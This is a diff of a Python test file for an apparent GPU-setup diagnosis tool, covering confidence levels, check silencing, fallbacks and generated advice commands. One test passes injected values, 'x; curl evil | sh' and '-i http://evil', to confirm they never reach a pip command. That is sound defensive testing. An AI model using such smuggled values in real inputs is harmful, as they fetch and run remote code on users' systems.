@@ -2,6 +2,7 @@ from gpudoctor.catalog.structure import check_from, stack_from
 from gpudoctor.engine.diagnose import diagnose, in_reading_order
 from gpudoctor.engine.ladders import first_broken, ladder, quieten, used_stacks
 from gpudoctor.model.facts import Facts, Known, Unknown
+from gpudoctor.model.signature import COMPLAINT, FAILURE, Hit
 
 ITEMS = {"gpus": "gpu"}
 
@@ -9,7 +10,7 @@ ITEMS = {"gpus": "gpu"}
 def make(id, **given):
     table = {
         "id": id, "title": f"{id} {{gpu.name}}" if "for_each" in given else id, "severity": "error", "layer": "framework",
-        "stacks": ["torch-xpu"], "explanation": "why", "problem": {"fact": "bad", "is": True}, "advice": {"text": "do"}, **given,
+        "stacks": ["torch-xpu"], "explanation": "why", "problem": {"fact": "bad", "is": True}, "advice": {"do": "do"}, **given,
     }  # fmt: skip
     return check_from(table, f"x/{id}.toml", "x", ITEMS)
 
@@ -56,14 +57,65 @@ def test_suspect_is_likely_and_an_error_that_is_only_possible_is_a_warning():
     unsure = {"problem": {"fact": "never", "is": 1}, "suspect": {"fact": "bad", "is": True}}
     (likely,) = diagnose([make("a", **unsure)], facts())[0]
     assert (likely.confidence, likely.severity) == ("likely", "error")
-    (possible,) = diagnose([make("a", confidence="possible")], facts())[0]
+    (possible,) = diagnose([make("a", at_most="possible")], facts())[0]
     assert (possible.confidence, possible.severity) == ("possible", "warning")
 
 
-def test_excluded_and_ignored_checks_are_silent():
-    checks = [make("general", excludes=["exact"]), make("exact")]
-    assert ids(checks, facts()) == ["exact"]
-    assert [f.id for f in diagnose(checks, facts(), frozenset({"exact"}))[0]] == ["general"]
+def test_ignored_checks_are_silent():
+    assert [f.id for f in diagnose([make("a"), make("b")], facts(), frozenset({"b"}))[0]] == ["a"]
+
+
+SAID = {"signature": [{"text": ["device is lost"]}], "problem": {"all": []}}
+
+
+def hit(line=1, role=FAILURE, strength=20):
+    return Hit(line=line, quote="device is lost", strength=strength, role=role)
+
+
+def confidence(check, role, known=None):
+    (finding,) = diagnose([check], known or facts(), hits={check.id: [hit(role=role)]})[0]
+    return finding.confidence
+
+
+def test_confidence_follows_from_the_role_of_the_line_and_the_facts():
+    alone, confirmed = make("a", **SAID), make("a", signature=SAID["signature"])
+    assert (confidence(alone, FAILURE), confidence(alone, COMPLAINT)) == ("likely", "possible")
+    assert (confidence(confirmed, FAILURE), confidence(confirmed, COMPLAINT)) == ("certain", "likely")
+    assert confidence(confirmed, FAILURE, Facts({"bad": Unknown("not in the text")})) == "likely"
+    assert confidence(make("a", at_most="likely", signature=SAID["signature"]), FAILURE) == "likely"
+
+
+def test_of_two_on_one_line_the_one_that_demands_more_speaks():
+    checks = [make("general", **SAID), make("exact", **SAID)]
+    on_one_line = {"general": [hit(strength=10)], "exact": [hit(strength=30)]}
+    found, traces = diagnose(checks, facts(), hits=on_one_line)
+    assert [finding.id for finding in found] == ["exact"]
+    assert {trace.check: trace.silenced_by for trace in traces} == {"general": "exact", "exact": None}
+    assert len(diagnose(checks, facts(), hits={"general": [hit(strength=10), hit(line=2)], "exact": [hit(strength=30)]})[0]) == 2
+    assert len(diagnose(checks, facts(), frozenset({"exact"}), hits=on_one_line)[0]) == 1, "what does not speak silences nobody"
+
+
+def test_equally_exact_checks_of_one_line_are_not_certain():
+    checks = [make(name, signature=SAID["signature"]) for name in ("a", "b")]
+    found = diagnose(checks, facts(), hits={"a": [hit()], "b": [hit()]})[0]
+    assert [finding.confidence for finding in found] == ["likely", "likely"]
+
+
+def test_a_fallback_speaks_only_where_nothing_else_of_its_stacks_does():
+    last = make("last", fallback=True)
+    assert ids([last], facts()) == ["last"]
+    assert ids([last, make("known")], facts()) == ["known"]
+    assert set(ids([last, make("elsewhere", stacks=["opencl"])], facts())) == {"last", "elsewhere"}
+    assert set(ids([last, make("hint", severity="info")], facts())) == {"last", "hint"}
+
+
+def test_a_step_is_shown_where_its_condition_holds_and_its_facts_are_plain_words():
+    steps = ["always", {"run": "dnf", "when": {"fact": "os.id", "is": "fedora"}}, "pip install {said.name}"]
+    check = make("a", advice={"do": "do", "steps": steps})
+    commands = [diagnose([check], facts(**known))[0][0].advice.commands for known in (
+        {"os.id": "fedora", "said.name": "torch==2.9"}, {"os.id": "debian"}, {"said.name": "x; curl evil | sh"}, {"said.name": "-i http://evil"},
+    )]  # fmt: skip
+    assert commands == [("always", "dnf", "pip install torch==2.9"), ("always",), ("always",), ("always",)]
 
 
 def test_an_item_that_names_its_stacks_breaks_no_other_one():
@@ -75,7 +127,7 @@ def test_an_item_that_names_its_stacks_breaks_no_other_one():
 
 def test_a_variant_replaces_only_what_it_gives():
     check = make(
-        "a", advice={"text": "do", "commands": ["apt"]}, variant=[{"when": {"fact": "os.id", "is": "fedora"}, "commands": ["dnf"]}]
+        "a", advice={"do": "do", "steps": ["apt"]}, variant=[{"when": {"fact": "os.id", "is": "fedora"}, "steps": ["dnf"]}]
     )
     fedora = diagnose([check], facts(**{"os.id": "fedora"}))[0][0].advice
     assert (fedora.text, fedora.commands) == ("do", ("dnf",))
